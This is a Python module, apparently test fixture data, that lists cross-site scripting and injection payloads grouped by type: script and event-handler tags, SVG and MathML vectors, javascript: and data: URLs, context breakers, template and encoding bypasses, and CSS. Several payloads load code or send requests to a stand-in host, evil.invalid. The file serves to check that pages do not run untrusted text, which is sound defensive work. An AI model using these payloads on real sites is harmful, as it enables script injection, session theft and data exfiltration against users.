"""Texts that would run in a page that took them for more than texts.

Whatever of them ran would set ``window.__pwned``, open a dialog, ask ``evil.invalid`` for something, or leave an
element with the class ``pwned`` behind.
"""

RAN = "window.__pwned=1"
FAR = "//evil.invalid/x"

_HANDLERS = ["onload", "onfocus", "onmouseover", "onpointerenter", "onanimationstart", "onscroll"]

TAGS = [
    f"<script class=pwned>{RAN}</script>",
    f"<script class=pwned src={FAR}></script>",
    f"<ScRiPt class=pwned >{RAN}</sCrIpT >",
    f"<scr<script>ipt>{RAN}</scr</script>ipt>",
    f"<script type=module class=pwned>import('{FAR}')</script>",
    f"<<script class=pwned>{RAN}//<</script>",
    f"<img class=pwned src=x onerror={RAN}>",
    f'<img class=pwned src="x" onerror="{RAN}"',
    f"<img class=pwned src={FAR}>",
    f"<img class=pwned srcset='{FAR} 1x'>",
    f'<img """><script class=pwned>{RAN}</script>">',
    f"<video class=pwned><source onerror={RAN}></video>",
    f"<audio class=pwned src=x onerror={RAN}>",
    f"<iframe class=pwned src=javascript:parent.{RAN[7:]}></iframe>",
    f'<iframe class=pwned srcdoc="<script>parent.{RAN[7:]}</script>"></iframe>',
    f"<object class=pwned data={FAR}></object>",
    f"<object class=pwned data=javascript:{RAN}>",
    f"<base class=pwned href={FAR}>",
    f"<link class=pwned rel=stylesheet href={FAR}>",
    f'<meta class=pwned http-equiv=refresh content="0;url={FAR}">',
    '<meta class=pwned http-equiv="Content-Security-Policy" content="default-src *">',
    f"<body class=pwned onload={RAN}>",
    f"<html class=pwned onpointerrawupdate={RAN}>",
    f"<details class=pwned open ontoggle={RAN}>x",
    f"<input class=pwned autofocus onfocus={RAN}>",
    f"<form class=pwned action=javascript:{RAN}><button>Send</button></form>",
    f"<button class=pwned form=x formaction={FAR}>Sign in</button>",
    f"<marquee class=pwned onstart={RAN}>x</marquee>",
    f"<template class=pwned><script>{RAN}</script></template>",
    "<dialog class=pwned open>You were signed out</dialog>",
    f"<noscript><p title='</noscript><img class=pwned src=x onerror={RAN}>'>",
    "<plaintext class=pwned>",
]

VECTORS = [
    f"<svg class=pwned onload={RAN}>",
    f"<svg class=pwned><script>{RAN}</script></svg>",
    f"<svg class=pwned><script href={FAR} /></svg>",
    f"<svg class=pwned><a xlink:href=javascript:{RAN}><text y=9>x</text></a></svg>",
    f"<svg class=pwned><animate onbegin={RAN} attributeName=x dur=1s>",
    f"<svg class=pwned><use href='{FAR}#x'/></svg>",
    f"<svg><style><img class=pwned src=x onerror={RAN}></style></svg>",
    f"<math class=pwned href=javascript:{RAN}>x</math>",
    f"<math><mtext><table><mglyph><style><img class=pwned src=x onerror={RAN}></style></mglyph></table></mtext></math>",
]

URLS = [
    f"javascript:{RAN}",
    f"JaVaScRiPt:{RAN}",
    f"java\tscript:{RAN}",
    f"java\nscript:{RAN}",
    f"\x01javascript:{RAN}",
    f"javascript&colon;{RAN}",
    f"&#106;avascript:{RAN}",
    f"&#x6A&#x61vascript:{RAN}",
    f"javascript://example.org/%0a{RAN}",
    f"data:text/html,<script>{RAN}</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    f"vbscript:{RAN}",
    f"[x](javascript:{RAN})",
    f"![x]({FAR})",
    f"<javascript:{RAN}>",
    f'https://example.org/"onmouseover="{RAN}',
    f"https://example.org/'onmouseover='{RAN}",
    f"https://example.org/<script>{RAN}</script>",
    f"https://javascript:{RAN}@evil.invalid/",
    f"https:{FAR}",
    "\\\\evil.invalid\\x",
]

BREAKERS = [
    f"</script><script class=pwned>{RAN}</script>",
    f"</title><script class=pwned>{RAN}</script>",
    f"</textarea><script class=pwned>{RAN}</script>",
    f"</style><script class=pwned>{RAN}</script>",
    f"--><script class=pwned>{RAN}</script>",
    f'"><script class=pwned>{RAN}</script>',
    f"'><script class=pwned>{RAN}</script>",
    f'" autofocus onfocus="{RAN}" class="pwned',
    f"` onmouseover=`{RAN}",
    f'" style="background:url({FAR})" class="pwned',
    f'";{RAN};"',
    f"';{RAN};'",
    f'\\";{RAN};//',
    f"${{{RAN}}}",
    f"`${{{RAN}}}`",
    f"\u2028{RAN}\u2029",
    f"*/{RAN}/*",
    f"</p></article></main></body></html><script class=pwned>{RAN}</script>",
    '{"__proto__":{"innerHTML":"<img src=x onerror=alert(1)>"}}',
    '{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=alert(1)>"}}',
]

TEMPLATES = [
    "{{constructor.constructor('window.__pwned=1')()}}",
    "{{$on.constructor('window.__pwned=1')()}}",
    "{{7*7}}{%import os%}<%=7*7%>#{7*7}",
    f"{{{RAN}}}",
    f"[[{RAN}]]",
    f"<div class=pwned ng-app ng-init={RAN}>",
    f"%3Cscript%3E{RAN}%3C/script%3E",
    f"&lt;script&gt;{RAN}&lt;/script&gt;",
    f"&#60;script&#62;{RAN}&#60;/script&#62;",
    f"\\u003cscript\\u003e{RAN}\\u003c/script\\u003e",
    f"＜script class=pwned＞{RAN}＜/script＞",
    f"+ADw-script+AD4-{RAN}+ADw-/script+AD4-",
    f"<scr\u200bipt class=pwned>{RAN}</scr\u200bipt>",
    f"<\x00script class=pwned>{RAN}</script>",
    f"\u202e<script class=pwned>{RAN}</script>",
]

STYLES = [
    f"<style class=pwned>*{{background:url({FAR})}}</style>",
    f"<style class=pwned>@import '{FAR}';</style>",
    f"<div class=pwned style=background:url({FAR})>x</div>",
    "<div class=pwned style=position:fixed;inset:0;z-index:9999>x</div>",
    f"}}*{{background:url({FAR})}}/*",
    f"</style><style class=pwned>*{{background:url({FAR})}}",
]

HANDLERS = [f"<x class=pwned {handler}={RAN} tabindex=1 id=x>x</x>" for handler in _HANDLERS]

LONG = ["<b class=pwned>" * 120, f"{'A' * 1_500}<img class=pwned src=x onerror={RAN}>", "<" * 1_900]

PAYLOADS = [*TAGS, *VECTORS, *URLS, *BREAKERS, *TEMPLATES, *STYLES, *HANDLERS, *LONG]
